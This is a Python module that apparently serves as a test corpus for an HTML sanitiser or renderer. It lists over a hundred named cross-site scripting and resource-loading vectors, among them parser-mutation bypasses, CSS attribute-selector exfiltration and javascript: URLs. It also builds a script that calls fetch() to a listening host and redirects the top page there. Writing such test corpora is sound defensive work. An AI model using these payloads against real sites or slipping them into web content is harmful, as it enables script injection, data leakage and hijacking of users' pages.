"""HTML that tries to run script, to get out, or to tell somebody that it was read.

`{u}` is an address of a server that listens for it; `{js}` is script that opens a
dialog, asks that server, and writes into the page around.
"""

from __future__ import annotations

import base64
import html
from collections.abc import Iterator

JS = (
    "try{alert(1)}catch(e){};try{fetch('{u}js')}catch(e){};"
    "try{parent.document.title='owned';top.owned=1}catch(e){};"
    "try{top.location='{u}top'}catch(e){}"
)
SVG = "http://www.w3.org/2000/svg"
PLAIN: dict[str, str] = {
    # script
    "script": "<script>{js}</script>",
    "script_src": "<script src='{u}s.js'></script>",
    "script_module": "<script type=module>{js}</script>",
    "script_broken": "<scr<script>ipt>{js}</scr</script>ipt>",
    "script_slash": "<script/x>{js}</script/x>",
    "script_unclosed": "<script>{js}",
    "script_case": "<ScRiPt >{js}</sCrIpT >",
    "svg_script": "<svg><script>{js}</script></svg>",
    "svg_script_entity": "<svg><script>&#97;lert(1)</script></svg>",
    "math_script": "<math><mtext><script>{js}</script></mtext></math>",
    "xml_island": "<xml><x><![CDATA[<script>{js}</script>]]></x></xml>",
    # handlers
    "img_onerror": '<img src=x onerror="{js}">',
    "img_slash": '<img/src/onerror="{js}">',
    "img_unquoted": "<img src=x:x onerror=alert(1)//",
    "img_backtick": "<img src=`x`onerror=alert(1)>",
    "svg_onload": '<svg onload="{js}">',
    "svg_animate": '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    "svg_set_href": "<svg><a><set attributeName=href to='javascript:alert(1)'/>x</a>",
    "body_onload": '<body onload="{js}">',
    "body_onpageshow": '<body onpageshow="{js}">',
    "input_autofocus": '<input autofocus onfocus="{js}">',
    "select_autofocus": '<select autofocus onfocus="{js}"></select>',
    "textarea_autofocus": '<textarea autofocus onfocus="{js}"></textarea>',
    "div_tabindex": '<div tabindex=0 autofocus onfocus="{js}">x</div>',
    "details_toggle": '<details open ontoggle="{js}">x</details>',
    "marquee": '<marquee onstart="{js}" loop=1>x</marquee>',
    "video_source": '<video><source onerror="{js}"></video>',
    "audio_onerror": '<audio src=x onerror="{js}"></audio>',
    "css_animation": (
        '<style>@keyframes k{{}}</style><p style="animation:k 1s" '
        'onanimationstart="{js}">x</p>'
    ),
    "transition": '<p style="transition:1s" ontransitionend="{js}">x</p>',
    "attribute_breakout": '<a href="x" title="&quot; onmouseover=&quot;{js}">x</a>',
    "popover": "<button popovertarget=x>x</button>"
    '<p popover id=x onbeforetoggle="{js}">',
    # addresses that are script
    "iframe_javascript": "<iframe src='javascript:alert(1)'></iframe>",
    "iframe_srcdoc": '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    "iframe_data": "<iframe src='data:text/html;base64,{b64}'></iframe>",
    "iframe_remote": "<iframe src='{u}frame'></iframe>",
    "object_data": "<object data='data:text/html;base64,{b64}'></object>",
    "object_remote": "<object data='{u}o'></object>",
    "embed_data": "<embed src='data:text/html;base64,{b64}'>",
    "embed_remote": "<embed src='{u}e'>",
    "frameset": "<frameset><frame src='javascript:alert(1)'></frameset>",
    "portal": "<portal src='{u}portal'></portal>",
    "xlink_use": "<svg><use xlink:href='data:image/svg+xml;base64,{svg}#x'/></svg>",
    "xlink_image": "<svg><image xlink:href='{u}x.png' width=9 height=9 /></svg>",
    "svg_foreign": "<svg><foreignObject><iframe src='{u}f'/></foreignObject></svg>",
    "svg_feimage": "<svg><filter><feImage href='{u}fe'/></filter></svg>",
    "img_svg_data": "<img src='data:image/svg+xml;base64,{svg}'>",
    # going elsewhere
    "meta_refresh": "<meta http-equiv=refresh content='0;url={u}refresh'>",
    "meta_refresh_js": "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "meta_cookie": "<meta http-equiv=set-cookie content='a=b'>",
    "meta_csp": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "base": "<base href='{u}'><img src='based.png'>",
    "base_target": "<base target=_top><a href='{u}t'>x</a>",
    # loads
    "img": "<img src='{u}pixel.png'>",
    "img_protocol_relative": "<img src='//{h}/pixel.png'>",
    "img_backslash": "<img src='\\\\{h}\\pixel.png'>",
    "img_newline": "<img src='ht\ntp://{h}/pixel.png'>",
    "img_entity": "<img src='&#104;ttp://{h}/pixel.png'>",
    "image_tag": "<image src='{u}image.png'>",
    "img_lowsrc": "<img lowsrc='{u}low.png' dynsrc='{u}dyn.avi'>",
    "srcset": "<img srcset='{u}1x.png 1x, {u}2x.png 2x'>",
    "picture": "<picture><source srcset='{u}p.png'><img></picture>",
    "video_poster": "<video poster='{u}poster.png' src='{u}v.mp4' autoplay></video>",
    "audio": "<audio src='{u}a.mp3' autoplay preload=auto></audio>",
    "track": "<video><track default src='{u}t.vtt'></video>",
    "bgsound": "<bgsound src='{u}b.mid'>",
    "body_background": "<body background='{u}body.png'>x",
    "table_background": "<table background='{u}t.png'><tr><td background='{u}td.png'>x",
    "input_image": "<input type=image src='{u}i.png'>",
    "link_stylesheet": "<link rel=stylesheet href='{u}l.css'>",
    "link_icon": "<link rel=icon href='{u}i.ico'>",
    "link_prefetch": "<link rel=prefetch href='{u}pre'>",
    "link_preload": "<link rel=preload as=image href='{u}preload.png'>",
    "link_modulepreload": "<link rel=modulepreload href='{u}m.js'>",
    "link_dns": "<link rel=dns-prefetch href='//dns.{h}'>",
    "link_preconnect": "<link rel=preconnect href='{u}'>",
    "link_manifest": "<link rel=manifest href='{u}manifest'>",
    "speculation": (
        '<script type=speculationrules>{{"prefetch":[{{"urls":["{u}spec"]}}]}}</script>'
    ),
    # style
    "css_url": "<p style='background:url({u}c.png)'>x</p>",
    "css_escaped": "<p style='background:u\\72l({u}c.png)'>x</p>",
    "css_list": "<ul style='list-style-image:url({u}li.png)'><li>x</ul>",
    "css_cursor": "<p style='cursor:url({u}cur),auto;content:url({u}con)'>x</p>",
    "css_image_set": "<p style='background:image-set(\"{u}is.png\" 1x)'>x</p>",
    "css_border": "<p style='border-image:url({u}bi.png) 30'>x</p>",
    "css_mask": "<p style='-webkit-mask-image:url({u}m.svg);filter:url({u}f.svg#a)'>x",
    "css_import": "<style>@import '{u}i.css'; @import url({u}j.css);</style>",
    "css_font": "<style>@font-face{{font-family:f;src:url({u}f.woff)}}"
    "p{{font-family:f}}</style><p>x</p>",
    "css_selector": "<style>input[value^='a']{{background:url({u}a)}}</style>"
    "<input value=abc>",
    "css_expression": "<p style='width:expression(alert(1));behavior:url({u}h.htc)'>x",
    "css_moz": "<p style='-moz-binding:url({u}x.xml#x)'>x</p>",
    "css_var": "<p style='--a:url({u}v.png);background:var(--a)'>x</p>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:red'>login",
    "overlay_style": "<style>body{{position:fixed;inset:-999px}}"
    ".stSidebar{{display:none}}</style>",
    # forms
    "form": "<form action='{u}form'><input name=p><button autofocus>x</button></form>",
    "form_javascript": "<form action='javascript:alert(1)'><input type=submit></form>",
    "formaction": "<form><button formaction='{u}fa'>x</button></form>",
    "isindex": "<isindex action='javascript:alert(1)' type=image>",
    # links
    "a_javascript": "<a href='javascript:alert(1)'>x</a>",
    "a_javascript_tab": "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "a_javascript_control": "<a href='&#1;javascript:alert(1)'>x</a>",
    "a_vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "a_data": "<a href='data:text/html;base64,{b64}'>x</a>",
    "a_ping": "<a href='https://example.org' ping='{u}ping'>x</a>",
    "a_top": "<a href='{u}t' target=_top>x</a>",
    "area": "<map name=m><area href='javascript:alert(1)' shape=default></map>"
    "<img usemap=#m width=300 height=300>",
    "math_href": "<math><maction actiontype=statusline "
    "xlink:href='javascript:alert(1)'>x",
    # what parsers make of what a sanitiser has written
    "mutation_noscript": '<noscript><p title="</noscript>'
    '<img src=x onerror=alert(1)>">',
    "mutation_mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation_template": "<template><img src=x onerror=alert(1)></template>",
    "mutation_style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation_title": '<svg><title><a id="</title><img src=x onerror=alert(1)>">',
    "mutation_form": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "mutation_comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation_bang": "<!--!> <img src=x onerror=alert(1)> -->",
    "mutation_cdata": "<svg><![CDATA[><image xlink:href=']]>"
    "<img src=x onerror=alert(1)>'",
    "mutation_select": "<select><template><style><!--</select></template>"
    "<img src=x onerror=alert(1)>",
    "mutation_plaintext": "<math><annotation-xml encoding='text/html'><p><style>"
    "<img src=x onerror=alert(1)></style>",
    "conditional": "<!--[if gte mso 9]><img src='{u}mso.png'><![endif]-->"
    "<![if !mso]><script>{js}</script><![endif]>",
    "null_byte": "<scr\0ipt>{js}</scr\0ipt><img src=x on\0error=alert(1)>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "clobber": "<form id=document><input name=cookie></form><img name=body id=top>",
    "custom_element": '<x-y is=script onclick="{js}" style="display:block">x</x-y>',
    "shadow": "<div><template shadowrootmode=open><img src='{u}shadow.png'></template>",
    "fragment_text": "<p style='font:1px/1 a;content:attr(x)' x='{u}'>x</p>",
}


def vectors(host: str) -> Iterator[tuple[str, str]]:
    """Give each vector by name; what it asks for lies at a host (with a port)."""
    for name, source in PLAIN.items():
        url = f"http://{host}/{name}/"
        js = JS.replace("{u}", url)
        page = f"<script>{js}</script>".encode()
        svg = f'<svg xmlns="{SVG}" id="x"><script>{js}</script></svg>'
        facts = {
            "u": url,
            "h": host,
            "js": html.escape(js) if '"{js}"' in source else js,
            "b64": base64.b64encode(page).decode(),
            "svg": base64.b64encode(svg.encode()).decode(),
        }
        yield name, source.format(**facts)
